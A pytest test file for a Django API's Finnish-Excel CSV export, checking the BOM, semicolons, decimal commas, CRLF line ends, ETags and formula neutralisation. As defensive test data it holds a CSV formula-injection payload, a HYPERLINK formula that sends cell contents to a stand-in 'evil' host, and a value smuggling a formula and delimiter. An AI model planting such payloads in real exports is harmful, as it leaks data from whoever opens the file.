"""CSV for Finnish Excel (issue 14): `?format=csv&dialect=excel-fi` is UTF-8 with a byte order
mark, semicolon-separated, with decimal commas in numbers and CRLF line ends; parsed back it
holds the default CSV's cells, numbers with a decimal comma. The default CSV is unchanged,
and formulas are neutralised in both."""

import csv
import io
import json
import re

import pytest

from indicators.models import MetricValue
from tests.api_support import APRIL, LISTS, bearer, get, results, streamed, url

pytestmark = pytest.mark.django_db
BOM = b"\xef\xbb\xbf"
EXCEL_FI = {"format": "csv", "dialect": "excel-fi"}
HYPERLINK = '=HYPERLINK("http://evil"&A1)'


def body(response) -> bytes:
    assert response.status_code == 200, response.content[:300]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return streamed(response) if response.streaming else response.content


def parse(data: bytes, delimiter: str = ",") -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""),
                           delimiter=delimiter))


def lists_with_csv():
    return [*LISTS, "metric-value-export", "metric-value-withdrawal-list"]


def json_rows(client, name: str, token: str) -> list[dict]:
    if name == "metric-value-export":
        return json.loads(streamed(get(client, url(name), token)))
    return results(get(client, url(name), token))


@pytest.mark.parametrize("name", lists_with_csv())
def test_excel_fi_parses_back_to_the_default_csv_with_decimal_commas(client, data, name):
    token = data.national_token
    default = parse(body(get(client, url(name), token, format="csv")))
    excel = parse(body(get(client, url(name), token, **EXCEL_FI)), delimiter=";")
    assert excel[0] == default[0]  # the same columns
    rows = json_rows(client, name, token)
    assert len(excel) == len(default) == len(rows) + 1
    numbers = 0
    for excel_row, default_row, row in zip(excel[1:], default[1:], rows, strict=True):
        expected = []
        for column, cell in zip(default[0], default_row, strict=True):
            if isinstance(row[column], float):  # a number that is not a whole one in JSON
                numbers += "." in cell
                cell = cell.replace(".", ",")
            expected.append(cell)
        assert excel_row == expected
    if name in ("metric-value-list", "metric-value-export", "budget-line-list",
                "actual-cost-list"):
        assert numbers  # the data has decimals there, so the comma was tested


@pytest.mark.parametrize("name", ["metric-value-list", "metric-value-export", "project-list"])
def test_excel_fi_bytes_are_what_finnish_excel_opens(client, data, name):
    data_bytes = body(get(client, url(name), data.national_token, **EXCEL_FI))
    assert data_bytes.startswith(BOM + b"id;")
    assert data_bytes.endswith(b"\r\n")
    assert data_bytes.count(b"\r\n") == data_bytes.count(b"\n")  # every line ends in CRLF
    assert BOM not in data_bytes[3:]


def test_metric_values_in_excel_fi_have_decimal_commas(client, data):
    text = body(get(client, url("metric-value-list"), data.national_token,
                    **EXCEL_FI)).decode("utf-8-sig")
    lines = [dict(zip(*pair, strict=True)) for pair in _with_header(text)]
    by_metric = {(line["project_code"], line["metric_code"], line["category_code"]): line
                 for line in lines}
    assert by_metric[("HANKE-A", "A.2", "_T")]["value"] == "55,5"
    assert by_metric[("HANKE-A", "A.1", "_T")]["value"] == "10,0"
    assert by_metric[("HANKE-A", "A.1", "_T")]["period"] == "2022-04-01"  # dates unchanged


def _with_header(text: str):
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))
    return [(rows[0], row) for row in rows[1:]]


def test_the_default_csv_is_unchanged(client, data):
    token = data.national_token
    for name in ["metric-value-list", "metric-value-export", "budget-line-list"]:
        default = body(get(client, url(name), token, format="csv"))
        assert not default.startswith(BOM) and default.startswith(b"id,")
        assert body(get(client, url(name), token, format="csv", dialect="")) == default
    values = body(get(client, url("metric-value-list"), token, format="csv")).decode()
    assert ",55.5," in values and ";" not in values.splitlines()[0]
    budget = body(get(client, url("budget-line-list"), token, format="csv")).decode()
    assert ",1000.50," in budget


def test_excel_fi_still_neutralises_formulas_and_keeps_negative_numbers(client, data):
    MetricValue.objects.filter(metric=data.goal_metric, period=APRIL).update(
        value=-1.5, comment=HYPERLINK)
    MetricValue.objects.filter(metric=data.metric, period=APRIL, category=None).update(
        comment="-2+3;=1")
    for name in ["metric-value-list", "metric-value-export"]:
        rows = parse(body(get(client, url(name), data.national_token, **EXCEL_FI)), ";")
        lines = [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
        goal = next(line for line in lines if line["metric_code"] == "A.2"
                    and line["period"] == "2022-04-01")
        assert (goal["value"], goal["comment"]) == ("-1,5", "'" + HYPERLINK)
        total = next(line for line in lines if line["metric_code"] == "A.1"
                     and line["project_code"] == "HANKE-A" and line["category_code"] == "_T"
                     and line["period"] == "2022-04-01")
        assert total["comment"] == "'-2+3;=1"  # quoted, so its ; splits no cell
        for line in lines:
            for cell in line.values():
                assert not cell.startswith(("=", "+", "@")) and (
                    not cell.startswith("-") or re.fullmatch(r"-[0-9]+(,[0-9]+)?", cell))


def test_one_object_in_excel_fi(client, data):
    value = MetricValue.objects.get(metric=data.goal_metric, period=APRIL)
    text = body(get(client, url("metric-value-detail", value.pk), data.national_token,
                    **EXCEL_FI))
    assert text.startswith(BOM)
    header, row = parse(text, ";")
    assert dict(zip(header, row, strict=True))["value"] == "55,5"


@pytest.mark.parametrize("name", ["metric-value-list", "metric-value-export", "project-list"])
def test_an_unknown_dialect_is_a_400_naming_the_dialects(client, data, name):
    response = client.get(url(name), {"format": "csv", "dialect": "excel-se"},
                          **bearer(data.national_token), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 400
    assert response.json() == {"dialect": ["Unknown value: excel-se. Allowed values: excel-fi."]}


def test_excel_fi_has_its_own_etag(client, data):
    token = data.national_token
    default = get(client, url("metric-value-list"), token, format="csv")
    excel = get(client, url("metric-value-list"), token, **EXCEL_FI)
    assert default["ETag"] != excel["ETag"]
    again = client.get(url("metric-value-list"), EXCEL_FI, HTTP_IF_NONE_MATCH=excel["ETag"],
                       **bearer(token))
    assert again.status_code == 304
